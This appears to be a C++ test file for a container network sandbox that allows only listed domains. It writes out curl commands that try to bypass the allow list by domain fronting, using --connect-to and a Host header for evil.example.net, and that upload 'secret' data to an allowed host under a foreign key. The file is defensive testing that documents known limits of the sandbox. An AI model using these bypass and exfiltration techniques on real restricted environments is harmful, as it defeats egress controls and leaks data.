// What names decide, and what nobody sees who does not look inside of TLS.

#include "common/base/format.h"
#include "tests/attacks/network/internet_stage.h"
#include "tests/support/catch.h"

namespace workmux::test {
namespace {

// With the test's authority, which the image does not know.
std::string Curl(const InternetStage& stage, const std::string& arguments) {
  return Format(
      "cat >/tmp/ca.pem <<'END'\n{}END\ncurl --silent --cacert /tmp/ca.pem --max-time 20 {}\n",
      ReadWholeFile(stage.internet.authority()), arguments);
}

constexpr char kGit[] = "    allowed_domains: [git.example.com]\n";

}  // namespace

// Control: the same requests where the other name is allowed too, which are answered from that
// address.
TEST_CASE("Attack N9: another name is not reached at the address of an allowed one",
          "[attack][N9][namespace][docker][podman][podman_root][docker_firewall]") {
  for (const Environment& environment : EnvironmentsInInternet()) {
    INFO(environment.name);
    InternetStage stage(environment);
    const std::string by_name = Curl(stage, "https://api.example.com/whoami");
    const std::string by_hello = Curl(stage,
                                      "--connect-to api.example.com:443:git.example.com:443 "
                                      "https://api.example.com/whoami");
    CHECK(stage.Restricted(Curl(stage, "https://git.example.com/whoami"), kGit) ==
          "git.example.com\n");
    CHECK(stage.Restricted(by_name, kGit).empty());
    CHECK(stage.Restricted(by_hello, kGit).empty());
    const std::string both =
        "    allowed_domains: [git.example.com, api.example.com]\n    sni: \"off\"\n";
    CHECK(stage.Restricted(by_name, both) == "api.example.com\n");
    CHECK(stage.Restricted(by_hello, both) == "api.example.com\n");
  }
}

// Documented: what is said inside of TLS is not read; a server behind several names can be asked
// for another of them there. Control: the same request without the other name, which the same
// server answers for its own.
TEST_CASE("Attack N9: a server with several names is asked for another one inside of TLS",
          "[attack][N9][documented][namespace][docker][podman][podman_root][docker_firewall]") {
  for (const Environment& environment : EnvironmentsInInternet()) {
    INFO(environment.name);
    InternetStage stage(environment);
    CHECK(stage.Restricted(
              Curl(stage, "--header 'Host: evil.example.net' https://git.example.com/whoami"),
              kGit) == "evil.example.net\n");
    CHECK(stage.Restricted(Curl(stage, "https://git.example.com/whoami"), kGit) ==
          "git.example.com\n");
  }
}

// Documented: what is sent to an allowed host, and under whose account, is not read; allow none
// that takes data from everybody. Control: the same upload to a host that is not allowed, which
// does not arrive.
TEST_CASE("Attack N11: data leaves for an allowed host under a foreign key",
          "[attack][N11][documented][namespace][docker][podman][podman_root][docker_firewall]") {
  const std::string upload = "--header 'Authorization: foreign' --data-binary secret https://";
  for (const Environment& environment : EnvironmentsInInternet()) {
    INFO(environment.name);
    InternetStage stage(environment);
    CHECK(stage.Restricted(Curl(stage, upload + "git.example.com/"), kGit) == "foreign\nsecret");
    CHECK(stage.Restricted(Curl(stage, upload + "api.example.com/"), kGit).empty());
  }
}

}  // namespace workmux::test
